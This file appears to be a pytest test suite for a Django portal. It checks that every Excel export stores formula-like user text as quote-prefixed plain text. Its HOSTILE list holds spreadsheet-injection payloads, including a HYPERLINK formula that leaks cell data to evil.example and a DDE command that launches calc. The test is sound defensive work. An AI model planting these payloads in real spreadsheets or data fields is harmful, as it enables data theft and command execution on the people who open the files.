"""Excel exports cannot attack their reader: text that a spreadsheet would run as a formula (=, +,
-, @, tab, carriage return) arrives as plain text with Excel's quote prefix, in every list export
and in the upload report."""

import io
import zipfile
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from sinosure_portal.core.exports import XLSX, workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _has_formula_xml(content: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return any(
            b"<f>" in archive.read(name) or b"<f " in archive.read(name)
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_workbook_keeps_hostile_text_as_text():
    content = workbook_bytes(["name", "amount"], [[text, 5] for text in HOSTILE] + [["plain", -5]])
    cells = list(_cells(content))
    assert not _has_formula_xml(content)
    values = {c.value: c for c in cells}
    for text in HOSTILE:
        # the text is kept, not altered or dropped (XML reads a lone carriage return as a newline)
        cell = values.get(text) or values[text.replace("\r", "\n")]
        assert cell.data_type == "s" and cell.quotePrefix is True
    assert values["plain"].quotePrefix is False
    assert values[-5].data_type == "n"  # numbers stay numbers, negative ones too


def _list_urls():
    """Every page of the portal reachable without arguments (the lists among them export)."""

    def walk(patterns, prefix=""):
        for entry in patterns:
            if isinstance(entry, URLResolver):
                ns = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
                yield from walk(entry.url_patterns, ns)
            elif isinstance(entry, URLPattern) and entry.name and not entry.pattern.converters:
                route = str(entry.pattern)
                if "(?P<" not in route and not route.startswith(("api/", "^api")):
                    yield f"{prefix}{entry.name}"

    return sorted(set(walk(get_resolver().url_patterns)))


@pytest.mark.django_db(transaction=True)
def test_every_export_neutralises_formula_text(client, settings):
    from django.urls import NoReverseMatch, reverse

    from creditinfo.models import Buyer, Importer
    from declarations.models import DeclarationBatch, ShipmentDeclaration
    from sinosure_portal.accounts.models import Organisation, User

    # this test asks every page for ?format=xlsx: more than a user's hourly export budget
    settings.PORTAL_THROTTLE_RATES = {**settings.PORTAL_THROTTLE_RATES, "export": "10000/hour"}
    call_command("demo_data", stdout=StringIO())
    # every name a user can type, in every buyer, organisation, importer and invoice
    for i, buyer in enumerate(Buyer.objects.all()):
        text = HOSTILE[i % len(HOSTILE)]
        Buyer.objects.filter(pk=buyer.pk).update(name=text, name_en=text, name_zh=text)
    for i, org in enumerate(Organisation.objects.all()):
        text = HOSTILE[i % len(HOSTILE)] + f" {i}"
        Organisation.objects.filter(pk=org.pk).update(name_zh=text, name_en=text)
    Importer.objects.update(name=HOSTILE[0])
    for declaration in ShipmentDeclaration.objects.all()[:50]:
        ShipmentDeclaration.objects.filter(pk=declaration.pk).update(invoice_number=f"=1+{declaration.pk}")

    exported, hostile_seen = set(), 0
    names = _list_urls()
    for username in ["exporter", "bank", "underwriter", "claims", "admin"]:
        client.force_login(User.objects.get(username=username))
        urls = []
        for name in names:
            try:
                urls.append((name, reverse(name)))
            except NoReverseMatch:
                continue
        urls += [
            ("declarations:batch-report", reverse("declarations:batch-report", args=[b.pk]))
            for b in DeclarationBatch.objects.all()
        ]
        for name, url in urls:
            response = client.get(url, {"format": "xlsx", "q": ""})
            if response.status_code != 200 or not response["Content-Type"].startswith(XLSX):
                continue
            exported.add(name)
            assert not _has_formula_xml(response.content), name
            for cell in _cells(response.content):
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.quotePrefix, (name, cell.coordinate, cell.value)
                    hostile_seen += 1
    # the test reached the exports (a broken discovery would pass vacuously otherwise)
    assert len(exported) >= 15, sorted(exported)
    assert "declarations:batch-report" in exported
    assert hostile_seen > 50
